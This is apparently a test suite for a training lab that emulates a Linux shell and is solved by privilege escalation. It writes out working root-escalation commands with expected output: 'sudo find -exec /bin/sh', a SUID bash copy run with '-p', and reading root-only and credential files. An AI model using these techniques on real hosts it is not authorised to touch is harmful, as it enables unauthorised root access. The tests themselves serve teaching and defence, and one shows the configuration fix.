import { afterEach, describe, expect, it } from 'vitest';
import { STATE_COOKIE } from '../host/instance-state';
import { showsFlag, startTestLab } from '../host/test-harness';
import { buildSystem } from './net-linux-privesc';
import { matchGlob, parseMode, runLine, type Frame, type Session } from './net-linux-shell';

type TestLab = Awaited<ReturnType<typeof startTestLab>>;

const run = (lab: TestLab, cmd: string) => lab.post('/run', { cmd });

/** The terminal as text (the page escapes it). */
function screen(body: string): string {
  const pre = /<pre tabindex="0" aria-live="polite">([\s\S]*?)<\/pre>/.exec(body)?.[1] ?? '';
  return pre
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
}

/** The JSON the lab keeps in its state cookie (signed, but readable by the learner). */
function savedState(lab: TestLab): string {
  const cookie = lab.jar.get(STATE_COOKIE) ?? '';
  return Buffer.from(cookie.split('.')[0]!, 'base64url').toString('utf8');
}

describe('lab net-linux-privesc', () => {
  let lab: TestLab;
  afterEach(() => lab.close());

  it('is solved by sudo -l, then find -exec spawning a root shell, then reading the flag', async () => {
    lab = await startTestLab('net-linux-privesc');
    const home = await lab.get('/');
    expect(home.body).toContain('action="run"');
    expect(screen(home.body)).toBe('www-data@kaveri-web01:~/html$ ');

    const rules = await run(lab, 'sudo -l');
    expect(screen(rules.body)).toContain('(root) NOPASSWD: /usr/bin/find');

    const spawn = await run(lab, 'sudo find . -exec /bin/sh \\; -quit');
    expect(screen(spawn.body).endsWith('\n# ')).toBe(true);
    expect(showsFlag(spawn.body, lab.flag)).toBe(false);

    const id = await run(lab, 'id');
    expect(screen(id.body)).toContain('uid=0(root) gid=0(root) groups=0(root)');

    const flag = await run(lab, 'cat /root/flag.txt');
    expect(screen(flag.body)).toContain(`Flag: ${lab.flag}`);
    expect(showsFlag(flag.body, lab.flag)).toBe(true);
    // The state cookie is readable: the log keeps no flag.
    expect(savedState(lab)).not.toContain(lab.flag);
    expect(savedState(lab)).toContain('EHC{…}');

    // Leaving the root shell drops the privilege again.
    const back = await run(lab, 'exit');
    expect(screen(back.body).endsWith('www-data@kaveri-web01:~/html$ ')).toBe(true);
    const denied = await run(lab, 'cat /root/flag.txt');
    expect(screen(denied.body)).toContain('cat: /root/flag.txt: Permission denied');
  });

  it('is solved in one line by find -exec cat under sudo, or by piping a script into the shell', async () => {
    lab = await startTestLab('net-linux-privesc');
    const direct = await run(lab, 'sudo find /root -name flag.txt -exec cat {} \\;');
    expect(showsFlag(direct.body, lab.flag)).toBe(true);
    await lab.close();
    lab = await startTestLab('net-linux-privesc');
    const piped = await run(lab, "echo 'cat /root/flag.txt' | sudo find . -exec /bin/sh \\; -quit");
    expect(showsFlag(piped.body, lab.flag)).toBe(true);
  });

  it('is solved the GTFOBins SUID way too: root sets the SUID bit on a shell copy, bash -p keeps it', async () => {
    lab = await startTestLab('net-linux-privesc');
    await run(lab, 'sudo find . -maxdepth 0 -exec cp /bin/bash /var/tmp/rootbash \\;');
    await run(lab, 'sudo find /var/tmp -name rootbash -exec chmod 4755 {} \\;');
    const list = await run(lab, 'ls -l /var/tmp/rootbash');
    expect(screen(list.body)).toContain('-rwsr-xr-x 1 root root');
    const dropped = await run(lab, '/var/tmp/rootbash -c id');
    expect(screen(dropped.body)).toContain('uid=33(www-data) gid=33(www-data) groups=33(www-data)');
    const kept = await run(lab, '/var/tmp/rootbash -p -c "id; cat /root/flag.txt"');
    expect(screen(kept.body)).toContain('euid=0(root)');
    expect(showsFlag(kept.body, lab.flag)).toBe(true);
  });

  it('gives no flag to what www-data may do, nor to near misses', async () => {
    lab = await startTestLab('net-linux-privesc');
    const cases: [string, string][] = [
      ['cat /root/flag.txt', 'cat: /root/flag.txt: Permission denied'],
      ['ls -la /root', "ls: cannot open directory '/root': Permission denied"],
      ['sudo cat /root/flag.txt', 'sudo: a password is required'],
      ['sudo -s', 'sudo: a password is required'],
      ['sudo -u priya find . -quit', 'sudo: a password is required'],
      ['bash -p -c "cat /root/flag.txt"', 'Permission denied'],
      ['pkexec /bin/sh', 'Not authorized'],
      // The shell really parses: an unescaped ; ends the find command.
      ['sudo find . -exec /bin/sh ; -quit', "find: missing argument to `-exec'"],
      // Quoted, the whole line is one (unknown) command name.
      ["'sudo find . -exec /bin/sh \\; -quit'", 'command not found'],
      // find as www-data has no privilege to lend.
      ['find /root -name flag.txt -exec cat {} \\;', "find: '/root': Permission denied"],
      ['find / -name flag.txt 2>/dev/null', 'www-data@'],
    ];
    for (const [cmd, shows] of cases) {
      const answer = await run(lab, cmd);
      expect(answer.status, cmd).toBe(200);
      expect(screen(answer.body), cmd).toContain(shows);
      expect(answer.body, cmd).not.toContain(lab.flag);
      expect(showsFlag(answer.body, lab.flag), cmd).toBe(false);
    }
    const suid = await run(lab, 'find / -perm -4000 -type f 2>/dev/null');
    const listed = screen(suid.body)
      .split('\n')
      .filter((line) => line.startsWith('/'));
    expect(listed).toContain('/usr/bin/sudo');
    expect(listed).toContain('/usr/bin/passwd');
    expect(listed).not.toContain('/usr/bin/find');
    expect(listed).toHaveLength(15);
  });

  it('keeps the shell between requests within the state budget, and resets', async () => {
    lab = await startTestLab('net-linux-privesc');
    const moved = await run(lab, 'cd /tmp && pwd');
    expect(screen(moved.body)).toContain('/tmp\nwww-data@kaveri-web01:/tmp$ ');
    for (let i = 0; i < 12; i += 1) {
      const answer = await run(lab, i % 2 ? 'find / 2>/dev/null' : 'cat /etc/passwd /etc/group /etc/sudoers.d/x 2>&1');
      expect(answer.status).toBe(200);
    }
    for (let i = 0; i < 6; i += 1) {
      await run(lab, `echo ${'अ'.repeat(30)} > /tmp/file-${i}-${'x'.repeat(60)}`);
    }
    const full = await run(lab, `echo "${'ह'.repeat(100)}"`);
    expect(full.status).toBe(200);
    expect(Buffer.byteLength(savedState(lab))).toBeLessThan(2300);
    const history = await run(lab, 'history');
    expect(screen(history.body)).toMatch(/\d+ {2}history/);
    await lab.post('/reset', {});
    const fresh = await lab.get('/');
    expect(screen(fresh.body)).toBe('www-data@kaveri-web01:~/html$ ');
  });
});

describe('the emulated Linux shell', () => {
  const system = buildSystem({ solve: () => 'EHC{test}' });
  const foothold = (): Session => ({
    frames: [{ uid: 33, euid: 33, gid: 33, cwd: '/var/www/html', shell: 'bash' }],
    overlay: { modes: {}, files: {}, removed: [] },
  });
  const lines = (session: Session, ...commands: string[]) => {
    let output = '';
    for (const command of commands) {
      const result = runLine(system, session, command);
      output += result.output;
      session = result.session;
    }
    return { output, session };
  };

  it('parses separators, pipes, substitutions, quotes and redirections like sh', () => {
    const { output } = lines(
      foothold(),
      'echo a; echo b && echo c || echo d',
      'false || echo e; false && echo f',
      'cat /etc/passwd | grep priya | wc -l',
      'echo "$(whoami) at `hostname`" \'$HOME\'',
      'ls /nope 2>/dev/null; echo status=$?',
      'ls /nope 2>&1 | head -1',
      'echo one\\;two',
    );
    expect(output).toBe(
      [
        'a',
        'b',
        'c',
        'e',
        '1',
        'www-data at kaveri-web01 $HOME',
        'status=2',
        "ls: cannot access '/nope': No such file or directory",
        'one;two',
        '',
      ].join('\n'),
    );
  });

  it('runs find -exec with find’s own IDs, so only sudo lends root', () => {
    const own = lines(foothold(), 'find /var/www/html -maxdepth 0 -exec id \\;').output;
    expect(own).toBe('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n');
    const sudo = lines(foothold(), 'sudo find /var/www/html -maxdepth 0 -exec id \\;').output;
    expect(sudo).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
  });

  it('matches sudo rules on the whole command line: the write-up’s fix keeps the job and closes the hole', () => {
    const fixed = buildSystem({ solve: () => 'EHC{test}' });
    fixed.sudo.rules = [
      {
        user: 'www-data',
        runAs: 'root',
        nopasswd: true,
        command: '/usr/bin/find',
        args: '/var/www/html/uploads -type f -mtime +30 -delete',
      },
    ];
    const job = runLine(fixed, foothold(), 'sh /var/www/html/cleanup.sh; ls /var/www/html/uploads');
    expect(job.output).toBe('assignment-sneha.docx\ncv.php\n');
    const shell = runLine(fixed, foothold(), 'sudo find . -exec /bin/sh \\; -quit');
    expect(shell.spawned).toBe(false);
    expect(shell.output).toContain('sudo: a password is required');
  });

  it('honours the SUID bit and drops it in shells without -p', () => {
    const root: Frame = { uid: 0, euid: 0, gid: 0, cwd: '/root', shell: 'sh' };
    const session = foothold();
    const made = runLine(system, { ...session, frames: [root] }, 'chmod u+s /usr/bin/dash');
    const back = { frames: session.frames, overlay: made.session.overlay };
    expect(lines(back, 'dash -c id').output).toBe('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n');
    expect(lines(back, 'sh -p -c id').output).toContain('euid=0(root)');
    // Without the change, -p has nothing to keep.
    expect(lines(foothold(), 'sh -p -c id').output).not.toContain('euid');
  });

  it('keeps files in sticky /tmp to their owners and bounds what a line may do', () => {
    const root: Frame = { uid: 0, euid: 0, gid: 0, cwd: '/root', shell: 'sh' };
    const made = runLine(system, { ...foothold(), frames: [root] }, 'echo secret > /tmp/root-note');
    const back = { frames: foothold().frames, overlay: made.session.overlay };
    expect(lines(back, 'rm /tmp/root-note').output).toBe(
      "rm: cannot remove '/tmp/root-note': Operation not permitted\n",
    );
    const loop = lines(foothold(), Array(60).fill('sh -c "id; id; id; id"').join('; ')).output;
    expect(loop).toContain('lab limit');
    const deep = lines(foothold(), 'sh -c "sh -c \\"sh -c \'sh -c id\'\\""').output;
    expect(deep).toBe('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n');
  });

  it('matches globs and modes as the tools do', () => {
    expect(matchGlob('*.php', 'config.php')).toBe(true);
    expect(matchGlob('flag?.txt', 'flag.txt')).toBe(false);
    expect(matchGlob('[a-c]*', 'bash')).toBe(true);
    expect(matchGlob('[!a-c]*', 'bash')).toBe(false);
    expect(parseMode('u+s')!(0o755)).toBe(0o4755);
    expect(parseMode('4755')!(0)).toBe(0o4755);
    expect(parseMode('go-w,u=rwx')!(0o666)).toBe(0o744);
    expect(parseMode('u=q')).toBeNull();
  });
});
